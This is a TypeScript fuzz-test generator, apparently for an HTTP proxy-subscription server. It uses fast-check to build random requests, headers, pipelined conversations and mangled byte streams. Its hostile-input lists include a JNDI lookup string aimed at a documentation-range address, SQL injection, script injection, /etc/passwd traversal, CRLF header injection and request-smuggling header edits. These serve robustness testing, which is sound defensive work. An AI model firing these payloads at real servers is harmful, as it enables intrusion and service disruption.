import fc from 'fast-check';

import { guessedUserAgents, seenUserAgents } from '../../../src/subscriptions/user-agents.corpus.ts';

/** Stands in everything that a generated request says and nobody may repeat: no answer, no line of the log, no metric. */
export const canary = 'cAnArY7';

/** Networks for documentation: whoever appears in a log was taken from a request. */
export const forgedAddress = /198\.51\.100\.|203\.0\.113\.|2001:db8:/;

export type TokenSpelling = 'plain' | 'escaped' | 'changed' | 'cut' | 'longer' | 'other case' | 'hostile' | 'invented';

/** A request as it was meant; `write-request.ts` has its bytes, `judge.ts` what must come of it. */
export interface FuzzRequest {
  readonly method: string;
  readonly route: Route;
  /** Of customers, taken round and round. */
  readonly customer: number;
  readonly spelling: TokenSpelling;
  /** Decides what spellings change, and stands for what has no customer. */
  readonly noise: string;
  /** Values of `format`, in order. */
  readonly formats: readonly string[];
  readonly open: readonly string[];
  readonly otherQuery: string;
  readonly headers: readonly (readonly [name: string, value: string])[];
  /** ETags of this customer's answers by number; they go into `If-None-Match`. */
  readonly etags: readonly number[];
  readonly body: { readonly text: string; readonly isChunked: boolean } | undefined;
}

/** `{t}` is the token, `{n}` some text. */
export const routes = [
  '/sub/{t}',
  '/json/{t}',
  '/clash/{t}',
  '/api/sub/{t}',
  '/sub/{t}/clash',
  '/sub/{t}/sing-box',
  '/sub/{t}/v2ray-json',
  '/api/sub/{t}/json',
  '/api/sub/{t}/mihomo',
  '/sub/{t}/info',
  '/sub/{t}/{n}',
  '/sub/{t}/',
  '/sub/',
  '/SUB/{t}',
  '/sub//{t}',
  '//sub/{t}',
  '/sub/{t}/devices/{n}/remove',
  '/metrics',
  '/healthz',
  '/',
  '/{n}',
  '/sub/../sub/{t}',
  '/.git/config',
  '/api/sub/{t}/devices/1/remove',
  '*',
] as const;
export type Route = (typeof routes)[number];

export type Ending =
  | { readonly kind: 'closed' }
  /** A part of a request, and then nothing. */
  | { readonly kind: 'half'; readonly request: FuzzRequest; readonly share: number; readonly how: 'end' | 'reset' }
  /** A request of which bytes were changed. */
  | { readonly kind: 'mangled'; readonly request: FuzzRequest; readonly edits: readonly Edit[] }
  | { readonly kind: 'bytes'; readonly bytes: string };

export interface Edit {
  /** Share of the length. */
  readonly at: number;
  /** How many bytes go. */
  readonly cut: number;
  readonly put: string;
}

export interface FuzzConversation {
  readonly requests: readonly FuzzRequest[];
  readonly pipelined: boolean;
  readonly ending: Ending;
}

const hostileTexts = [
  '',
  ' ',
  '\t',
  '"',
  "' or 1=1 --",
  '${jndi:ldap://198.51.100.7/a}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '%00',
  '%0d%0aset-cookie:a=b',
  '\u00ff\u00fe\u00e9',
  '\u00d0\u0081\u00d0\u00bb\u00d0\u00ba\u00d0\u00b0',
  'a'.repeat(300),
  '[]{}()|\\^`;,:@&=+$!*',
  '__proto__',
  'constructor',
  'toString',
  '-1',
  '1e999',
  'NaN',
] as const;

const formatWords = [
  'links',
  'plain',
  'mihomo',
  'sing-box',
  'sing-box-legacy',
  'xray',
  'clash',
  'json',
  'v2ray',
  'page',
  'stash',
  '',
  'Links',
  'clash ',
  'yaml',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '%00',
  '%zz',
  '../plain',
  canary,
];
const openWords = ['happ', 'hiddify', 'v2rayng', 'clash-verge', 'Happ', '', '__proto__', 'toString', canary];

/** Bytes that a header's value may hold. */
const headerText = fc
  .oneof(
    fc.constantFrom(...hostileTexts),
    fc.string({ unit: fc.integer({ min: 0x20, max: 0xff }).map((code) => String.fromCodePoint(code)), maxLength: 24 }),
  )
  .map((text) => text.replaceAll(/[^\t\x20-\x7e\x80-\xff]/g, ''));
const marked = headerText.map((text) => `${canary}${text}`);

const corpus = [...seenUserAgents, ...guessedUserAgents].map(({ userAgent }) => userAgent).filter(isHeaderText);
const acceptValues = [
  '*/*',
  'text/html',
  'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
  'application/json',
  '*',
  'text/html;q=0',
  'text/html;q=2;q=-1',
  ';;;q=,,,',
  ','.repeat(2000),
  `${'a/b,'.repeat(600)}text/html`,
];
const languageValues = ['ru', 'en', 'ru-RU,ru;q=0.9,en;q=0.8', '*', 'xx', 'ru;q=0', '-', 'a;q=1,'.repeat(400)];
const forwardedValues = [
  '198.51.100.7',
  '203.0.113.9, 198.51.100.7',
  '2001:db8::1',
  '[2001:db8::2]:443',
  '198.51.100.7:80',
  'unknown',
  'for=198.51.100.7;proto=https',
  ', , ,',
  '::ffff:198.51.100.7',
  '127.0.0.1',
  '2001:db8::/32',
  '999.1.1.1',
  `${'198.51.100.7, '.repeat(300)}203.0.113.9`,
];

const header: fc.Arbitrary<readonly [string, string]> = fc.oneof(
  { weight: 5, arbitrary: pair(['user-agent', 'User-Agent'], fc.constantFrom(...corpus)) },
  { weight: 1, arbitrary: pair(['user-agent'], marked) },
  { weight: 3, arbitrary: pair(['accept'], fc.constantFrom(...acceptValues)) },
  { weight: 3, arbitrary: pair(['accept-language'], fc.constantFrom(...languageValues)) },
  { weight: 1, arbitrary: pair(['accept', 'accept-language', 'accept-encoding'], marked) },
  { weight: 2, arbitrary: pair(['if-none-match'], fc.constantFrom('*', '"x"', 'W/"x"', '"'.repeat(400), '""', '\\"')) },
  { weight: 2, arbitrary: pair(['x-hwid', 'x-device-model', 'x-device-os', 'x-ver-os'], marked) },
  {
    weight: 3,
    arbitrary: pair(
      ['x-forwarded-for', 'forwarded', 'x-real-ip', 'cf-connecting-ip', 'true-client-ip'],
      fc.constantFrom(...forwardedValues),
    ),
  },
  { weight: 1, arbitrary: pair(['x-forwarded-host', 'x-original-url', 'x-rewrite-url', 'x-http-method'], marked) },
  {
    weight: 1,
    arbitrary: pair(['cookie', 'authorization', 'range', 'referer', 'origin', 'if-modified-since'], marked),
  },
  {
    weight: 1,
    arbitrary: pair(['sec-fetch-site'], fc.constantFrom('same-origin', 'none', 'cross-site', 'same-site', '', canary)),
  },
  { weight: 1, arbitrary: pair(['origin'], fc.constant('null')) },
  { weight: 1, arbitrary: pair(['expect'], fc.constant('100-continue')) },
  { weight: 1, arbitrary: pair(['x-filler'], fc.constantFrom('a'.repeat(4000), 'a'.repeat(8000))) },
);

/** What an app says of its device, all together: alone most of it counts for nothing. */
const device: fc.Arbitrary<readonly (readonly [string, string])[]> = fc
  .tuple(fc.integer({ min: 0, max: 30 }), marked, headerText)
  .map(([number, model, os]) => [
    ['x-hwid', `${canary}-device-${String(number)}`],
    ['x-device-model', model],
    ['x-device-os', os],
  ]);
const headers = fc.array(
  fc.oneof({ weight: 6, arbitrary: header.map((one) => [one]) }, { weight: 1, arbitrary: device }),
  { maxLength: 6 },
);

const noise = fc.oneof(
  fc.constantFrom(...hostileTexts),
  fc.string({ unit: fc.constantFrom(...Array.from('abcXYZ019-_.~=+@%/?#&;:')), maxLength: 40 }),
);

const removal = '/sub/{t}/devices/{n}/remove';

/** The form is mostly sent as it is meant to be. */
const request: fc.Arbitrary<FuzzRequest> = fc
  .record({
    method: fc.oneof(
      { weight: 16, arbitrary: fc.constant('GET') },
      { weight: 3, arbitrary: fc.constant('HEAD') },
      { weight: 2, arbitrary: fc.constant('POST') },
      { weight: 1, arbitrary: fc.constantFrom('PUT', 'DELETE', 'OPTIONS', 'PATCH', 'TRACE', 'PROPFIND', 'PURGE') },
    ),
    route: fc.oneof(
      { weight: 10, arbitrary: fc.constant('/sub/{t}' as const) },
      { weight: 5, arbitrary: fc.constantFrom(...routes) },
    ),
    customer: fc.nat(1000),
    spelling: fc.oneof(
      { weight: 14, arbitrary: fc.constant('plain' as const) },
      {
        weight: 5,
        arbitrary: fc.constantFrom<TokenSpelling[]>(
          ...(['escaped', 'changed', 'cut', 'longer', 'other case', 'hostile', 'invented'] as const),
        ),
      },
    ),
    noise,
    formats: mostly([], fc.array(fc.constantFrom(...formatWords), { minLength: 1, maxLength: 2 }), 3),
    open: mostly([], fc.array(fc.constantFrom(...openWords), { minLength: 1, maxLength: 2 }), 10),
    otherQuery: mostly('', noise, 6),
    headers: headers.map((groups) => groups.flat()),
    etags: mostly([], fc.array(fc.nat(100), { minLength: 1, maxLength: 3 }), 8),
    body: mostly(
      undefined,
      fc.record({ text: fc.constantFrom('', 'x=1', canary, '{"a":1}', 'z'.repeat(5000)), isChunked: fc.boolean() }),
      10,
    ),
  })
  .map((one) => (one.method === 'GET' && one.route === removal ? { ...one, method: 'POST' } : one));

const edit: fc.Arbitrary<Edit> = fc.record({
  at: fc.double({ min: 0, max: 1, noNaN: true }),
  cut: fc.nat(3),
  put: fc.oneof(
    fc.constantFrom(
      '\r\n',
      '\r\n\r\n',
      '\n',
      '\r',
      '\0',
      ' ',
      ':',
      '\t',
      '\u007f',
      '\u00ff',
      '%',
      'HTTP/1.1',
      '#',
      '?',
    ),
    fc.constantFrom(
      'content-length: 5\r\n',
      'content-length: -1\r\n',
      'transfer-encoding: chunked\r\n',
      'host: a\r\nhost: b\r\n',
      'transfer-encoding: chunked, identity\r\n',
      'connection: upgrade\r\nupgrade: websocket\r\n',
      'expect: x\r\n',
      ' obs-fold: a\r\n\tb\r\n',
      'content-length: 3\r\ncontent-length: 4\r\n',
      `a: ${'b'.repeat(20_000)}\r\n`,
    ),
    fc.string({ unit: fc.integer({ min: 0, max: 255 }).map((code) => String.fromCodePoint(code)), maxLength: 8 }),
  ),
});

const whole = [
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
  'GET /sub/aaaa\r\n',
  'GET /sub/aaaa HTTP/0.9\r\n\r\n',
  'GET /sub/aaaa HTTP/1.0\r\n\r\n',
  'GET http://elsewhere.example/sub/aaaa HTTP/1.1\r\nhost: a\r\n\r\n',
  'CONNECT 198.51.100.7:443 HTTP/1.1\r\nhost: a\r\n\r\n',
  'GET / HTTP/1.1\r\n\r\n',
  'GET / HTTP/9.9\r\nhost: a\r\n\r\n',
  '\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003',
  '\r\n\r\n\r\n',
  `GET /${'a'.repeat(20_000)} HTTP/1.1\r\nhost: a\r\n\r\n`,
  `GET / HTTP/1.1\r\nhost: a\r\n${'b: c\r\n'.repeat(3000)}\r\n`,
  'POST /sub/aaaa/devices/1/remove HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\n\r\nffffffffffffffff\r\n',
  'POST / HTTP/1.1\r\nhost: a\r\ncontent-length: 99999999999999999999\r\n\r\n',
  'SSH-2.0-OpenSSH_9.9\r\n',
  'USER anonymous\r\n',
];

const ending: fc.Arbitrary<Ending> = fc.oneof(
  { weight: 4, arbitrary: fc.constant({ kind: 'closed' } as const) },
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant('half' as const),
      request,
      share: fc.double({ min: 0, max: 1, noNaN: true }),
      how: fc.constantFrom('end' as const, 'reset' as const),
    }),
  },
  {
    weight: 3,
    arbitrary: fc.record({
      kind: fc.constant('mangled' as const),
      request,
      edits: fc.array(edit, { minLength: 1, maxLength: 3 }),
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('bytes' as const),
      bytes: fc.oneof(
        fc.constantFrom(...whole),
        fc.string({ unit: fc.integer({ min: 0, max: 255 }).map((code) => String.fromCodePoint(code)), maxLength: 60 }),
      ),
    }),
  },
);

/** What one client says over one connection. */
const conversation: fc.Arbitrary<FuzzConversation> = fc.record({
  requests: fc.array(request, { maxLength: 12, size: 'max' }),
  pipelined: mostly(true, fc.constant(false), 2),
  ending,
});

/** What some clients say at the same time. */
export const crowd: fc.Arbitrary<readonly FuzzConversation[]> = fc.array(conversation, { minLength: 1, maxLength: 12 });

function pair(names: readonly string[], value: fc.Arbitrary<string>): fc.Arbitrary<readonly [string, string]> {
  return fc.tuple(fc.constantFrom(...names), value);
}

function mostly<T, U>(usual: T, other: fc.Arbitrary<U>, weight: number): fc.Arbitrary<T | U> {
  return fc.oneof({ weight, arbitrary: fc.constant(usual) }, { weight: 1, arbitrary: other });
}

function isHeaderText(text: string): boolean {
  return /^[\t\x20-\x7e\x80-\xff]*$/.test(text) && text.length < 12_000;
}
